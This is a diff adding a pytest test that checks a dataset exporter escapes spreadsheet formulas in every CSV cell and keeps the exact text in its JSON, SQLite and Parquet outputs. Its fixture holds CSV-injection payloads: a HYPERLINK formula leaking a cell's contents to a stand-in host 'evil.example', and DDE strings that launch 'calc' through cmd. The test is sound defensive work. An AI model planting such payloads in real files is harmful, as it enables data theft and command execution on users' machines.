@@ -1,0 +1,87 @@
+"""Outputs carry no live syntax: what the data says is shown as text, never run as a formula, Markdown or a command."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import sqlite3
+from pathlib import Path
+
+import pytest
+
+from claimset.export import TABLES
+
+FORMULAS = {
+    "english": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "actor": "+cmd|' /C calc'!A0",
+    "reason": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "note": "'quoted from the start",
+    "seed": "-2+3+cmd|' /C calc'!A0",
+}
+
+
+def _edit(root: Path, rel: str, old: str, new: str) -> None:
+    path = root / rel
+    text = path.read_text(encoding="utf-8")
+    assert old in text
+    path.write_text(text.replace(old, new, 1), encoding="utf-8")
+
+
+@pytest.fixture
+def formulas(mini, add_document) -> Path:
+    """The mini checkout with a text that a spreadsheet would run in every kind of CSV cell."""
+    _edit(mini, "claims/doc-a.yaml", "english: about 5,000 builders arrived in September",
+          f"english: {json.dumps(FORMULAS['english'])}")
+    _edit(mini, "claims/doc-a.yaml", "    what: builders\n", f"    what: builders\n    note: {json.dumps(FORMULAS['note'])}\n")
+    _edit(mini, "claims/actors.yaml", "en: The agency}", f"en: {json.dumps(FORMULAS['actor'])}}}")
+    (mini / "claims" / "retired.yaml").write_text(
+        f"retired:\n- id: a-old\n  reason: {json.dumps(FORMULAS['reason'])}\n  replaced_by: [a-talks]\n"
+        "  retired_in: 0.1.0\n", encoding="utf-8")
+    add_document(mini, "doc-c", f"{FORMULAS['seed']}\n")
+    return mini
+
+
+def test_no_csv_cell_starts_a_formula_and_every_reader_gets_the_exact_text(formulas, run, tmp_path, repo, monkeypatch):
+    pd = pytest.importorskip("pandas")
+    pytest.importorskip("pyarrow")
+    import claimset
+
+    release = tmp_path / "release"
+    result = run("build", "--root", str(formulas), "--out", str(release), "--parquet")
+    assert result.exit_code == 0, result.output
+    escaped = set()
+    for table in TABLES:
+        rows = list(csv.reader(io.StringIO((release / table.path).read_text(encoding="utf-8"), newline="")))
+        for row in rows[1:]:
+            for column, cell in zip(table.columns, row, strict=True):
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (table.name, column.name, cell)
+                if column.type == "string" and cell.startswith("'"):
+                    escaped.add(cell[1:])
+    assert set(FORMULAS.values()) <= escaped  # each is in a CSV, behind its apostrophe
+
+    # The README's recipe gives the exact text back, as load() and the typed formats hold it.
+    block = next(b for b in re.findall(r"^```python\n(.*?)^```", (repo / "README.md").read_text(encoding="utf-8"),
+                                       re.S | re.M) if "def read_csv(table)" in b)
+    monkeypatch.chdir(release)
+    recipe: dict = {}
+    exec(block, recipe)
+    data = claimset.load(release)
+    for table in TABLES:
+        frame, ours = recipe["read_csv"](table.name), data.to_pandas(table.name)
+        parquet = pd.read_parquet(release / "parquet" / f"{table.name}.parquet")
+        for column in (c.name for c in table.columns if c.type == "string"):
+            want = [None if pd.isna(v) else v for v in ours[column]]
+            assert [None if pd.isna(v) else v for v in frame[column]] == want, (table.name, column)
+            assert [None if pd.isna(v) else v for v in parquet[column]] == want, (table.name, column)
+    whole = (release / "claims.json").read_text(encoding="utf-8")
+    database = sqlite3.connect(release / "claims.db")
+    for text in FORMULAS.values():
+        assert json.dumps(text, ensure_ascii=False)[1:-1] in whole
+    assert database.execute("SELECT english FROM claims WHERE id = 'a-builders'").fetchone() == (FORMULAS["english"],)
+    assert database.execute("SELECT reason FROM retired").fetchone() == (FORMULAS["reason"],)
+
+    frictionless = pytest.importorskip("frictionless")
+    report = frictionless.validate(str(release / "datapackage.json"))
+    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:5]
